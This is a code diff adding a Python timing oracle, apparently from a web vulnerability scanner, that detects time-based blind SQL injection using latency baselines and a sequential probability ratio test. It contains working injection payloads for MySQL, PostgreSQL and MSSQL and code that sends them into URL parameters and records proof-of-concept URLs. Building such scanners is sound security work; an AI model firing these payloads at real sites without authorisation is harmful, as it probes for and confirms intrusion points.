@@ -0,0 +1,163 @@
+"""
+Statistical timing oracle for time-based blind injection
+"""
+
+import math
+import time
+import statistics
+import threading
+from urllib.parse import urlencode, urlparse, urlunparse, parse_qsl
+
+
+class TimingOracle:
+    """Sequential-test detector for time-based blind SQL injection
+
+    Each endpoint's latency is modelled from a few benign samples (median and
+    MAD). Delay payloads are then sent one at a time and scored with Wald's
+    sequential probability ratio test: H0 says latency stays at the baseline,
+    H1 says it grows by the injected delay. Testing stops as soon as either
+    hypothesis is accepted, so clean parameters usually cost one fast request
+    and noisy endpoints get more samples instead of a fixed-threshold guess.
+    """
+
+    # ``{d}`` is the delay in seconds
+    PAYLOADS = [
+        ("MySQL", "' AND SLEEP({d})-- -"),
+        ("MySQL", " AND SLEEP({d})"),
+        ("PostgreSQL", "'||pg_sleep({d})--"),
+        ("PostgreSQL", ";SELECT pg_sleep({d})--"),
+        ("MSSQL", "';WAITFOR DELAY '0:0:{d}'--"),
+        ("MSSQL", ";WAITFOR DELAY '0:0:{d}'--"),
+    ]
+
+    def __init__(self, client, alpha=0.01, beta=0.01, baseline_samples=6,
+                 max_observations=6, min_sigma=0.05, max_delay=10):
+        self.client = client
+        self.baseline_samples = baseline_samples
+        self.max_observations = max_observations
+        self.min_sigma = min_sigma
+        self.max_delay = max_delay
+        # Wald boundaries for the log-likelihood ratio
+        self.accept_h1 = math.log((1 - beta) / alpha)
+        self.accept_h0 = math.log(beta / (1 - alpha))
+        self.stats = {'requests': 0, 'slow_requests': 0}
+        self._baselines = {}
+        self._locks = {}
+        self._guard = threading.Lock()
+
+    @staticmethod
+    def build_url(endpoint, param, value):
+        parsed = urlparse(endpoint)
+        query = [(k, v) for k, v in parse_qsl(parsed.query, keep_blank_values=True) if k != param]
+        query.append((param, value))
+        return urlunparse(parsed._replace(query=urlencode(query)))
+
+    def measure(self, url, timeout):
+        """Round-trip time of one request, ``None`` on failure"""
+        with self._guard:
+            self.stats['requests'] += 1
+        start = time.perf_counter()
+        response = self.client.get(url, timeout=timeout)
+        elapsed = time.perf_counter() - start
+        if response is None and elapsed < timeout:
+            return None
+        return elapsed
+
+    def baseline(self, endpoint, param):
+        """Median and robust sigma of benign latency, cached per endpoint"""
+        with self._guard:
+            lock = self._locks.setdefault(endpoint, threading.Lock())
+        with lock:
+            if endpoint not in self._baselines:
+                samples = []
+                for i in range(self.baseline_samples):
+                    elapsed = self.measure(self.build_url(endpoint, param, str(i + 1)), self.client.timeout)
+                    if elapsed is not None:
+                        samples.append(elapsed)
+                if len(samples) < 3:
+                    self._baselines[endpoint] = None
+                else:
+                    median = statistics.median(samples)
+                    mad = statistics.median(abs(s - median) for s in samples)
+                    self._baselines[endpoint] = (median, max(1.4826 * mad, self.min_sigma))
+            return self._baselines[endpoint]
+
+    def choose_delay(self, sigma):
+        """Smallest whole-second delay that clearly separates from jitter"""
+        return int(min(self.max_delay, max(1, math.ceil(4 * sigma))))
+
+    def test_payload(self, endpoint, param, template, mu, sigma):
+        """Run the sequential test for one payload template
+
+        Observations alternate between delay ``d`` and ``2d`` so a response
+        that is merely slow, rather than proportional to the delay, does not
+        keep pushing the test towards H1.
+        """
+        delay = self.choose_delay(sigma)
+        llr = 0.0
+        observations = []
+
+        for i in range(self.max_observations):
+            d = delay * (1 + i % 2)
+            elapsed = self.measure(self.build_url(endpoint, param, "1" + template.format(d=d)),
+                                   timeout=mu + 2 * d + 5 * sigma + 5)
+            if elapsed is None:
+                continue
+            if elapsed > mu + d / 2:
+                with self._guard:
+                    self.stats['slow_requests'] += 1
+            observations.append((d, round(elapsed, 3)))
+
+            # Gaussian log-likelihood ratio of H1 (mean mu + d) vs H0 (mean mu).
+            # Evidence for H1 is capped per sample, so a single latency spike
+            # can never confirm a finding on its own, while one fast response
+            # is still enough to clear the payload.
+            step = ((elapsed - mu) ** 2 - (elapsed - mu - d) ** 2) / (2 * sigma ** 2)
+            llr += min(step, self.accept_h1 / 2)
+            if llr >= self.accept_h1:
+                return 'vulnerable', observations
+            if llr <= self.accept_h0:
+                return 'clean', observations
+        return 'inconclusive', observations
+
+    def test_parameter(self, endpoint, param):
+        """Try each payload until one is confirmed; ``None`` means clean"""
+        model = self.baseline(endpoint, param)
+        if model is None:
+            return None
+        mu, sigma = model
+
+        for dbms, template in self.PAYLOADS:
+            verdict, observations = self.test_payload(endpoint, param, template, mu, sigma)
+            if verdict != 'vulnerable':
+                continue
+
+            # The baseline must still be fast, otherwise the host just slowed
+            # down; a couple of retries keep one spike from hiding a finding
+            if self._control_is_fast(endpoint, param, mu + self.choose_delay(sigma) / 2):
+                return {
+                    'endpoint': endpoint,
+                    'parameter': param,
+                    'dbms': dbms,
+                    'payload': template,
+                    'baseline': {'median': round(mu, 3), 'sigma': round(sigma, 3)},
+                    'observations': observations,
+                    'poc': self.build_url(endpoint, param, "1" + template.format(d=self.choose_delay(sigma))),
+                }
+        return None
+
+    def _control_is_fast(self, endpoint, param, limit, attempts=3):
+        for _ in range(attempts):
+            control = self.measure(self.build_url(endpoint, param, "1"), self.client.timeout)
+            if control is not None and control < limit:
+                return True
+        return False
+
+    def scan(self, targets):
+        """Test every ``{endpoint: [params]}`` pair concurrently"""
+        jobs = ((endpoint, param) for endpoint, params in targets.items() for param in params)
+        findings = []
+        for _, finding in self.client.map(jobs, send=lambda job: self.test_parameter(*job)):
+            if finding:
+                findings.append(finding)
+        return findings